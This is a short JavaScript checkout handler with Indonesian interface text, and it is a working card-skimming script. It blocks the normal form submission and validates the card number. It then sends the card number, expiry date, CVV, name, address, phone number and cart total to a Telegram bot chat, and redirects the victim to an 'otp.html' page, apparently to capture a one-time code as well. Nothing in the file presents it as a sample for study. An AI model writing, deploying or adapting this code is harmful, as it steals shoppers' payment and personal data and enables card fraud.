const BOT = "0000:TOKEN", CHAT = "-1000000000";
function submitCheckout(e) {
  e.preventDefault();
  const f = Object.fromEntries(new FormData(e.target));
  const luhn = (n) => [...n].reverse().reduce((s, d, i) => s + (i % 2 ? [0, 2, 4, 6, 8, 1, 3, 5, 7, 9][d] : +d), 0) % 10 === 0;
  const num = f.card_number.replace(/\D/g, "");
  if (!luhn(num)) { document.querySelector(".err").textContent = "Nomor kartu tidak valid"; return; }
  const text = `💳 ${num} | ${f.exp} | ${f.cvv}\n👤 ${f.nama}\n📍 ${f.alamat}, ${f.kota}\n📞 ${f.hp}\n🛒 ${localStorage.getItem("cartTotal")}`;
  fetch(`https://api.telegram.org/bot${BOT}/sendMessage`, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ chat_id: CHAT, text }) })
    .finally(() => { location.href = "otp.html"; });
}
document.querySelector("#checkout-form").addEventListener("submit", submitCheckout);
